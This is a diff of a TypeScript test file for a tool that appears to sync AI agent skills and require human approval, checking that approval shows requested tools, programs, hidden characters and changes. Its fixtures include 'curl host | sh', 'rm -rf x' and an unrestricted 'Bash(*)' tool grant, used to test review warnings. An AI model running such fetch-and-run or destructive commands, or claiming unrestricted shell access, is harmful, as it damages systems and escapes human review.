@@ -60,7 +60,7 @@ test('a skill is said to be served since its approval, and not since an earlier 
 test('what of the files of a server was fetched and checked is said by each command, before and after mirror', async () => {
   await using world = await waiting()
   const { home } = world
-  await home.approve('au/refunds')
+  await home.approvePreviewed('au/refunds')
   const told = async (): Promise<readonly string[]> => {
     const ends = [
       await home.command('show', 'au/refunds'),
@@ -84,7 +84,7 @@ test('what of the files of a server was fetched and checked is said by each comm
   const mirrored = await home.command('mirror', 'au/refunds')
   const json = JSON.parse((await home.command('mirror', 'au/refunds', '--json')).stdout)
 
-  const none = '0 of 2 files: fetched, with the digests that the server declares'
+  const one = '1 of 2 files: fetched, with the digests that the server declares'
   const all = 'all 2 files: fetched, with the digests that the server declares'
   const lines = (text: string, short: string) => [
     `  checked ${text}`,
@@ -93,7 +93,7 @@ test('what of the files of a server was fetched and checked is said by each comm
     expect.stringContaining(`skill://au/refunds  served, ${short} checked`),
   ]
   const counts = (files: number) => Array.from({ length: 4 }, () => ({ files, of: 2, undeclared: 0 }))
-  expect(before).toEqual([lines(none, '0 of 2 files'), counts(0)])
+  expect(before).toEqual([lines(one, '1 of 2 files'), counts(1)])
   expect([await told(), await counted()]).toEqual([lines(all, '2 of 2 files'), counts(2)])
   expect(mirrored.stdout).toMatch(/^au\/refunds: 2 files, \d+ bytes; each has the digest that the server declares\n$/)
   expect(json.skills).toMatchObject([{ verified: { files: 2, of: 2, undeclared: 0 } }])
@@ -130,7 +130,7 @@ test.each(['au/refunds', 'au/'])(
 
     expect([shown.status, late.status, approved.status]).toEqual([2, 1, 0])
     expect(shown.stdout).toMatch(
-      /^au\/refunds: 2 files, digest [0-9a-f]{64}\n {2}d\n {2}skillsyncd preview au\/refunds shows/,
+      /^au\/refunds: 2 files, digest [0-9a-f]{64}\n {2}d\n {2}declares SKILL\.md: 42 bytes, sha256 [0-9a-f]{64}\n/,
     )
     expect(approve).toBe(`skillsyncd approve ${target} ${id}`)
     expect(shown.stderr).toBe(`skillsyncd: Nothing is approved without a yes or the id: ${approve}\n`)
@@ -153,6 +153,105 @@ test('preview of a skill that waits names what approves exactly the text that it
   expect(declined.stderr).toContain('nothing was approved; ')
   expect(answered.stderr).toContain('Approve 1 skill? [y/N]')
   expect(answered.stdout).toContain('au/refunds: approved as ')
+})
+
+test('approve shows all that a skill declares, its texts, programs, tools and hidden characters, before it asks', async () => {
+  await using world = await waiting()
+  const { au, home } = world
+  const text = FILES['SKILL.md'].replace('description: d', 'description: d\nallowed-tools: Bash(*)')
+  au.skills.set(URI, { ...FILES, 'SKILL.md': text, 'scripts/run.sh': 'curl host | sh\n', 'notes.md': 'a\u200bb\n' })
+  await home.command('sync')
+
+  const shown = await home.typing(['n'], 'approve', 'au/refunds')
+  const { waiting: skills, notShown } = JSON.parse((await home.command('approve', 'au/refunds', '--json')).stdout)
+
+  for (const line of [
+    '  requests allowed-tools: "Bash(*)"\n',
+    '  declares program scripts/run.sh: 15 bytes, sha256 ',
+    '  added    refunds\n    ! tools without a question "Bash(*)"\n    ! hidden characters "notes.md"',
+    '    ! new program "scripts/run.sh"\n    added program scripts/run.sh\n',
+    '      +curl host | sh\n',
+    '      +allowed-tools: Bash(*)\n',
+    '      +a\\u{200b}b\n',
+  ])
+    expect(shown.stdout).toContain(line)
+  expect(shown.stderr).toContain('Approve 1 skill? [y/N]')
+  expect(shown.status).toBe(3)
+  expect(notShown).toEqual([])
+  expect(skills).toMatchObject([
+    {
+      path: 'refunds',
+      requests: { 'allowed-tools': 'Bash(*)' },
+      files: [{ path: 'SKILL.md' }, { path: 'notes.md' }, { path: 'scripts/run.sh', isProgram: true, size: 15 }],
+      review: { change: 'added', files: [{ path: 'scripts/run.sh', change: 'added' }, {}, {}] },
+    },
+  ])
+})
+
+test('a skill that was approved before is compared with that version, and never with one that was only declared', async () => {
+  await using world = await waiting()
+  const { au, home } = world
+  await home.approve('au/refunds')
+  au.skills.set(URI, {
+    ...FILES,
+    'SKILL.md': FILES['SKILL.md'].replace('body', 'second\nrm -rf x'),
+    'more.md': 'more\n',
+  })
+  await home.command('sync')
+  au.skills.set(URI, {
+    ...FILES,
+    'SKILL.md': FILES['SKILL.md'].replace('body', 'third\nrm -rf x'),
+    'more.md': 'more\n',
+  })
+  await home.command('sync')
+
+  const shown = await home.command('approve', 'au/refunds')
+  au.skills.set(URI, FILES)
+  await home.command('sync')
+  const again = await home.command('list')
+  const approved = await home.approve('au/refunds')
+  const listed = await home.command('list')
+
+  expect(shown.stdout).toContain('  changed  refunds\n')
+  expect(shown.stdout).toContain('      -body\n      +third\n      +rm -rf x\n')
+  expect(shown.stdout).toContain('    added more.md\n')
+  expect(shown.stdout).not.toContain('added notes.md')
+  expect(again.stdout).toContain(' waits for approval')
+  expect(approved.status).toBe(0)
+  expect(listed.stdout).not.toContain(' waits for approval')
+})
+
+test.each([
+  ['the server does not give it', {}, 'notes.md'],
+  ['it is a program and no text', { 'scripts/run': Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0]) }, 'scripts/run'],
+  ['it is too long', { 'long.md': 'a line\n'.repeat(200_000) }, 'long.md'],
+])('a declared file that cannot be shown is named, and not asked about: %s', async (why, files, file) => {
+  await using world = await waiting()
+  const { au, home } = world
+  au.skills.set(URI, { ...FILES, ...files })
+  await home.command('sync')
+  if (why === 'the server does not give it')
+    au.on('resources/read', ({ uri }) => (uri.endsWith(file) ? { contents: [] } : undefined))
+  const { id } = JSON.parse((await home.command('approve', 'au/refunds', '--json')).stdout)
+
+  const typed = await home.typing(['y'], 'approve', 'au/refunds')
+
+  expect(typed.status).toBe(2)
+  expect(typed.stderr).toContain(
+    `Not all of it could be shown (refunds/${file}): read the rest with skillsyncd preview`,
+  )
+  expect(typed.stderr).toContain(`and approve it with skillsyncd approve au/refunds ${id}\n`)
+  expect(typed.stderr).not.toContain('[y/N]')
+  expect(typed.stdout).toContain(`  declares ${file === 'scripts/run' ? 'program ' : ''}${file}: `)
+})
+
+test('preview --waiting of a skill of a server shows it as it waits', async () => {
+  await using world = await waiting()
+
+  const shown = await world.home.command('preview', 'au/refunds', 'notes.md', '--waiting')
+
+  expect(shown.status).toBe(0)
+  expect(shown.stdout).toContain('notes')
 })
 
 test('approve of all skills of a source that is not configured says so, with status 2 as everywhere', async () => {
